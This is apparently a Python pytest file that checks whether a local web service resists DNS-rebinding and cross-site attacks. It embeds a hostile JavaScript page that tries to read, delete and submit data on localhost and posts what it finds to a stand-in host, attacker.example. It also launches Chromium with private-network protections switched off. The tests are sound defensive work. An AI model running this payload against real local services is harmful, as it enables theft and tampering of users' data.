"""Loads hostile pages in Chromium next to a running `chirper serve`, and fails if one of them reads
or changes anything.

The browser uses a proxy that answers for the attacker. For the name `rebound.example` it answers
the page itself, and sends everything else on to chirper with that name in `Host`: this is what a
browser does after the name has come to mean 127.0.0.1.
"""

import contextlib
import http.client
import http.server
import json
import shutil
import subprocess
import tempfile
import time

import pytest

from program import store
from services import HTTPService

ATTEMPTS = """
const found = {};
const base = BASE;
const later = (milliseconds, end) => new Promise((yes, no) =>
  setTimeout(() => end === 'sent' ? yes(end) : no(end), milliseconds));
async function attempt(name, promise) {
  try { found[name] = await Promise.race([promise(), later(3000, 'nothing')]); }
  catch (error) { found[name] = 'failed: ' + error; }
}
function text(path, options) {
  return async () => {
    const answer = await fetch(base + path, options);
    return answer.status + ' ' + await answer.text();
  };
}
function added(kind, properties) {
  return document.body.appendChild(Object.assign(document.createElement(kind), properties));
}
function element(kind, path) {
  return () => new Promise((yes, no) => {
    added(kind, { onload: () => yes('loaded'), onerror: () => no('error'), src: base + path });
  });
}
function form(path, type, value) {
  return () => {
    const frame = added('iframe', { name: 'f' + Math.random() });
    const action = base + path;
    const form = added('form', { method: 'POST', enctype: type, action, target: frame.name });
    form.append(added('input', { name: value, value: '' }));
    form.submit();
    return later(500, 'sent');
  };
}
function post(path, body, more) {
  return text(path, { method: 'POST', body, ...more });
}
(async () => {
  const load = '{"query":"owl","source":"sample","all":true}';
  const unread = { mode: 'no-cors', headers: { 'Content-Type': 'text/plain' } };
  const encoded = 'application/x-www-form-urlencoded';
  await attempt('read', text('/api/3/recordings?query=q:A'));
  await attempt('lists', text('/api/chirper/lists'));
  await attempt('export', text('/api/chirper/export'));
  const list = '/api/chirper/lists?query=parrot&source=sample';
  await attempt('forget', text(list, { method: 'DELETE' }));
  await attempt('load', post('/api/chirper/loads', load));
  await attempt('load without reading', post('/api/chirper/loads', load, unread));
  await attempt('session', post('/session', JSON.stringify({ token: '0'.repeat(32) })));
  await attempt('credentials', text('/api/chirper/lists', { credentials: 'include' }));
  await attempt('script', element('script', '/api/3/recordings?query=q:A'));
  await attempt('image', element('img', '/api/chirper/export'));
  await attempt('form', form('/api/chirper/loads', 'text/plain', load));
  await attempt('usual form', form('/api/chirper/loads?query=owl', encoded, 'query'));
  await attempt('events', () => new Promise((yes, no) => {
    const stream = new EventSource(base + '/events');
    stream.addEventListener('state', (event) => yes(event.data));
    stream.onerror = () => no('error');
  }));
  const report = { method: 'POST', mode: 'no-cors', body: JSON.stringify(found) };
  await fetch('http://attacker.example/report', report);
})();
"""


# What newer browsers refuse: here the server must refuse it by itself.
REFUSALS = [
    "LocalNetworkAccessChecks", "BlockInsecurePrivateNetworkRequests",
    "PrivateNetworkAccessRespectPreflightResults"]


class Attacker(http.server.BaseHTTPRequestHandler):
    """The proxy of the browser."""

    port = None
    base = None
    report = None
    sent_on = []

    def answer(self):
        host = self.headers["Host"]
        path = self.path.split("/", 3)[3] if self.path.startswith("http://") else self.path[1:]
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        if path == "page":
            page = "<!doctype html><body><script>" + ATTEMPTS.replace(
                "BASE", json.dumps(Attacker.base)) + "</script>"
            self.reply(200, {"Content-Type": "text/html"}, page.encode())
        elif path == "report" and host == "attacker.example":
            Attacker.report = json.loads(body)
            self.reply(204, {}, b"")
        elif host == f"rebound.example:{Attacker.port}":
            connection = http.client.HTTPConnection("127.0.0.1", Attacker.port, timeout=10)
            headers = {
                name: value
                for name, value in self.headers.items()
                if not name.lower().startswith("proxy-")}
            connection.request(self.command, "/" + path, body, headers)
            answer = connection.getresponse()
            Attacker.sent_on.append((path, answer.status))
            self.reply(answer.status, dict(answer.getheaders()), answer.read())
        else:
            self.reply(404, {}, b"")

    do_GET = do_POST = do_DELETE = do_OPTIONS = answer

    def reply(self, status, headers, body):
        self.send_response(status)
        for name, value in headers.items():
            if name.lower() not in ("content-length", "transfer-encoding", "connection"):
                self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


def browse(proxy, page, base):
    """What the page reports."""
    Attacker.base, Attacker.report = base, None
    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as profile:
        command = [
            shutil.which("chromium"), "--headless", "--no-sandbox", "--disable-gpu",
            f"--user-data-dir={profile}", "--no-first-run",
            f"--disable-features={','.join(REFUSALS)}", f"--proxy-server={proxy.address}",
            "--remote-debugging-port=0", page]
        browser = subprocess.Popen(
            command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            end = time.time() + 600
            while Attacker.report is None and time.time() < end:
                time.sleep(0.1)
        finally:
            browser.terminate()
            browser.wait(timeout=120)
    assert Attacker.report is not None, "the page did not report"
    return Attacker.report


@pytest.fixture
def proxy():
    Attacker.sent_on = []
    with contextlib.closing(HTTPService(Attacker)) as service:
        yield service


@contextlib.contextmanager
def serving(*options):
    with store() as chirper:
        chirper.run("fetch", "parrot", "--source", "sample")
        chirper.serve(*options)
        Attacker.port = chirper.port
        yield chirper


def state(chirper):
    """The lists and their rows, and the loads."""
    lists = chirper.get("/api/chirper/lists")["queries"]
    loads = chirper.get("/api/chirper/loads")["loads"]
    return [(one["query"], one["rows"]) for one in lists], loads


def refused(report, chirper):
    read = {
        attempt: result
        for attempt, result in report.items()
        if not result.startswith(("failed", "403 ", "sent")) and result.strip() != "0"}
    assert not read
    assert state(chirper) == ([("parrot", 50)], [])


def test_a_page_whose_name_comes_to_mean_this_machine_reads_and_changes_nothing(proxy):
    with serving() as chirper:
        address = f"http://rebound.example:{chirper.port}"
        report = browse(proxy, address + "/page", address)
        assert len(Attacker.sent_on) >= 8 and {status for _, status in Attacker.sent_on} == {403}
        refused(report, chirper)


def test_a_page_of_another_site_reads_and_changes_nothing(proxy):
    with serving() as chirper:
        refused(browse(proxy, "http://attacker.example/page", chirper.address.rstrip("/")), chirper)


def test_a_page_of_an_allowed_origin_reads_and_changes_nothing_without_the_token(proxy):
    # Were the page, or the way to the server, broken, nothing would be read either.
    with serving("--allow-origin", "http://attacker.example") as chirper:
        report = browse(proxy, "http://attacker.example/page", chirper.address.rstrip("/"))
        assert report["read"].startswith("200 ") and "parrot" in report["lists"]
        assert report["forget"].startswith("401 ") and state(chirper) == ([("parrot", 50)], [])
